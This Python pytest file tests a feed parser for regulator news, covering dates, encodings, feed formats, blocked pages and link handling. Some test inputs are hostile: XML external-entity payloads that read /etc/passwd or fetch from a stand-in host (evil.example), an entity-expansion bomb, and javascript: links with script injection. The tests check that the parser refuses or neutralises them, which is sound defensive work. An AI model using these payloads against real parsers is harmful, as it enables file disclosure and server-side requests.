"""The traps that real regulators set (each seen in the wild), with samples of our own."""

import json
from datetime import UTC, date, datetime

import pytest

from regwatch.fetching.domain.documents import MOST_ITEMS, TEXT_LENGTH, DocumentKind, Fault
from regwatch.fetching.domain.identity import IdentityRule
from regwatch.fetching.feeds import parse_feed

URL = "https://regulator.example/news/rss.xml"

PRICED = "Café \u2013 £60,000"


def parsed(body: str | bytes, **more):
    raw = body.encode() if isinstance(body, str) else body
    return parse_feed(raw, url=URL, content_type=more.pop("content_type", None), **more)


def rss(items: str, head: str = "") -> str:
    return f'<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel>{head}{items}</channel></rss>'


def entry(title: str = "Title", link: str = "https://regulator.example/1", more: str = "") -> str:
    return f"<item><title>{title}</title><link>{link}</link>{more}</item>"


def only(document):
    (item,) = document.items
    return item


def test_the_long_human_date_of_the_fca_is_london_time():
    item = only(parsed(rss(entry(more="<pubDate>Wednesday, July 8, 2026 - 09:06</pubDate>"))))
    assert item.published_at == datetime(2026, 7, 8, 8, 6, tzinfo=UTC)
    assert item.raw_date == "Wednesday, July 8, 2026 - 09:06"


def test_a_date_that_cannot_be_read_is_unknown_and_never_the_time_of_the_poll():
    item = only(parsed(rss(entry(more="<pubDate>last Tuesday</pubDate>"))))
    assert (item.published_at, item.raw_date) == (None, "last Tuesday")


def test_a_day_alone_does_not_shift_by_the_zone():
    item = only(parsed(rss(entry(more="<pubDate>15 October 2025</pubDate>"))))
    assert item.published_at == date(2025, 10, 15)
    assert not isinstance(item.published_at, datetime)


def test_an_id_that_carries_a_timestamp_is_the_same_item_by_its_link():
    feed = """<feed xmlns="http://www.w3.org/2005/Atom"><id>x</id><title>Org</title><entry>
      <id>https://www.gov.example/a#2026-0{}-01</id><link href="https://www.gov.example/a"/><title>A</title>
      <updated>2026-0{}-01T09:00:00Z</updated></entry></feed>"""
    one, other = (only(parsed(feed.format(n, n), identity=IdentityRule.LINK)) for n in (1, 2))
    assert one.identity == other.identity == "https://www.gov.example/a"


def test_a_retired_feed_that_answers_200_is_said_to_have_ended():
    feed = """<feed xmlns="http://www.w3.org/2005/Atom"><id>x</id><title>Old</title><entry>
      <id>https://www.gov.example/old.atom/feed-ended</id><title>This has ended</title></entry></feed>"""
    document = parsed(feed)
    assert (document.fault, document.usable) == (Fault.RETIRED, False)
    assert document.problem == "The publisher has ended this feed."


@pytest.mark.parametrize(
    ("body", "fault"),
    [
        ("<!DOCTYPE html><html><body><div id='challenge-container'></div></body></html>", Fault.BLOCKED),
        ("<html><head><title>Just a moment...</title></head></html>", Fault.BLOCKED),
        ("<!-- hi --><!DOCTYPE html><html><body>Down for maintenance</body></html>", Fault.NOT_A_FEED),
        ("", Fault.EMPTY_BODY),
        ("  \r\n\ufeff", Fault.EMPTY_BODY),
        ("Not found", Fault.NOT_A_FEED),
        ('{"error": "rate limited"}', Fault.NOT_A_FEED),
        ('{"items": [', Fault.NOT_A_FEED),
        (rss(""), Fault.EMPTY_LIST),
        ('<feed xmlns="http://www.w3.org/2005/Atom"><id>x</id><title>t</title></feed>', Fault.EMPTY_LIST),
        ('{"version": "https://jsonfeed.org/version/1.1", "title": "t", "items": []}', Fault.EMPTY_LIST),
    ],
)
def test_a_200_that_is_no_feed_is_a_failure_with_its_reason(body, fault):
    document = parsed(body)
    assert (document.fault, document.items, document.usable) == (fault, (), False)
    assert document.problem.endswith(".")


def test_a_page_that_names_its_feed_says_so():
    page = '<html><head><link rel="alternate" type="application/rss+xml" href="/feed.xml"></head><body></body></html>'
    document = parsed(page)
    assert document.feed_url == "https://regulator.example/feed.xml"
    assert "https://regulator.example/feed.xml" in document.problem


def test_a_doctype_that_defines_nothing_is_cut_out():
    public = '<!DOCTYPE rss PUBLIC "-//N//DTD RSS 0.91//EN" "http://dtd.example/rss-0.91.dtd">'
    document = parsed(public + rss(entry()).partition("?>")[2])
    assert (document.problem, only(document).title) == (None, "Title")


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE rss [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>',
        '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        "<!DOCTYPE rss [<!ELEMENT rss ANY>]>",
        '<!DOCTYPE rss [\n<!-- > --> <!ENTITY % p SYSTEM "http://evil.example/x"> %p;]>',
    ],
)
def test_a_doctype_with_a_subset_or_an_entity_is_refused(doctype):
    document = parsed(doctype + rss(entry("&a;")).partition("?>")[2])
    assert (document.fault, document.items) == (Fault.REFUSED, ())


def test_nesting_without_end_is_refused():
    assert parsed(rss("<a>" * 5_000)).fault is Fault.REFUSED


def test_of_too_many_items_the_first_thousand_are_read_and_this_is_said():
    document = parsed(rss("".join(entry(link=f"https://regulator.example/{n}") for n in range(MOST_ITEMS + 5))))
    assert (len(document.items), document.fault, document.usable) == (MOST_ITEMS, Fault.TRUNCATED, True)
    assert document.problem == "The feed holds 1,005 items; the first 1,000 were read."


def test_links_are_made_absolute_and_none_but_web_addresses_are_kept():
    links = ["/a", "//other.example/b", "javascript:alert(1)", "data:text/html,x", "mailto:x@y.example"]
    items = "".join(entry(f"T{n}", link, f"<guid isPermaLink='false'>{n}</guid>") for n, link in enumerate(links))
    assert [item.url for item in parsed(rss(items)).items] == [
        "https://regulator.example/a", "https://other.example/b", None, None, None,
    ]  # fmt: skip


def test_a_base_of_its_own_decides_where_atom_links_lead():
    feed = """<feed xmlns="http://www.w3.org/2005/Atom" xml:base="https://base.example/x/"><id>f</id><title>t</title>
      <entry><id>1</id><title>A</title>
      <link rel="self" href="/self"/><link rel="alternate" href="doc"/></entry></feed>"""
    assert only(parsed(feed)).url == "https://base.example/x/doc"


def test_an_id_that_is_a_permalink_serves_as_the_link():
    item = only(parsed(rss("<item><title>T</title><guid>https://regulator.example/9</guid></item>")))
    assert item.url == "https://regulator.example/9"


def test_markup_in_titles_and_texts_is_words_and_never_runs():
    nasty = "&lt;b&gt;Late&lt;/b&gt; &amp;amp; wrong&lt;script&gt;alert(1)&lt;/script&gt;"
    item = only(
        parsed(
            rss(entry(nasty, more="<description><![CDATA[<p>One</p><p onclick=x>Two<!-- no --></p>]]></description>"))
        )
    )
    assert (item.title, item.text) == ("Late & wrong", "One\nTwo")


def test_invisible_and_control_characters_are_dropped():
    assert only(parsed(rss(entry("A\u202eb\u200bc&#x9;d\u00ade")))).title == "Abc de"


@pytest.mark.parametrize("title", ["", "<![CDATA[   ]]>", "&lt;p&gt;&lt;/p&gt;"])
def test_an_item_without_a_title_is_called_by_its_first_words(title):
    item = only(parsed(rss(entry(title, more="<description>First words of the text.</description>"))))
    assert item.title == "First words of the text."


def test_an_item_of_nothing_still_has_a_title():
    assert only(parsed(rss("<item></item>"))).title == "(no title)"


@pytest.mark.parametrize(
    ("body", "content_type"),
    [
        (rss(entry(PRICED)).encode(), "application/rss+xml"),
        (rss(entry(PRICED)).replace("utf-8", "windows-1252").encode("cp1252"), None),
        (rss(entry(PRICED)).replace(' encoding="utf-8"', "").encode("cp1252"), "text/xml; charset=windows-1252"),
        (b"\xef\xbb\xbf" + rss(entry(PRICED)).encode(), "text/xml"),
        (rss(entry(PRICED)).replace("utf-8", "utf-16").encode("utf-16"), None),
        # Declared as one thing and sent as another: the bytes decide.
        (rss(entry(PRICED)).replace("utf-8", "iso-8859-1").encode("cp1252"), "text/xml"),
        (rss(entry(PRICED)).encode(), "text/xml; charset=no-such-thing"),
    ],
)  # fmt: skip
def test_the_character_set_is_found_whatever_is_declared(body, content_type):
    assert only(parsed(body, content_type=content_type)).title == PRICED


def test_a_feed_that_is_not_well_formed_is_read_as_far_as_it_goes_and_this_is_said():
    document = parsed(
        rss(entry("One & two", "https://regulator.example/1") + entry("Three", "https://regulator.example/2"))
    )
    assert [item.title for item in document.items] == ["One & two", "Three"]
    assert (document.fault, document.usable) == (Fault.MALFORMED, True)


def test_a_text_longer_than_is_kept_is_cut():
    item = only(parsed(rss(entry(more=f"<description>{'word ' * 30_000}</description>"))))
    assert len(item.text) <= TEXT_LENGTH
    assert len(item.summary) <= 500


def test_rdf_keeps_its_items_outside_the_channel():
    feed = """<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"
      xmlns:dc="http://purl.org/dc/elements/1.1/"><channel rdf:about="x"><title>t</title></channel>
      <item rdf:about="https://regulator.example/1"><title>A</title><link>https://regulator.example/1</link>
      <dc:date>2026-07-08T09:00:00Z</dc:date></item></rdf:RDF>"""
    document = parsed(feed)
    assert document.kind is DocumentKind.RDF
    assert only(document).published_at == datetime(2026, 7, 8, 9, tzinfo=UTC)


def test_a_json_feed_is_read_like_any_other():
    feed = {
        "version": "https://jsonfeed.org/version/1.1",
        "title": "News",
        "items": [{"id": "1", "url": "/a", "title": "A", "content_html": "<p>B</p>"}],
    }
    document = parsed(json.dumps(feed))
    assert document.kind is DocumentKind.JSON_FEED
    assert (only(document).url, only(document).text) == ("https://regulator.example/a", "B")


def test_a_page_with_a_list_is_read_where_the_source_says_how():
    page = "<html><body><ul><li class=n><a href='/1'>One</a><time>25 June 2026</time></li></ul></body></html>"
    document = parsed(page, selectors={"item": "li.n", "title": "a", "link": "a", "date": "time"})
    assert document.kind is DocumentKind.HTML
    assert (only(document).title, only(document).url) == ("One", "https://regulator.example/1")
    assert only(document).published_at == date(2026, 6, 25)
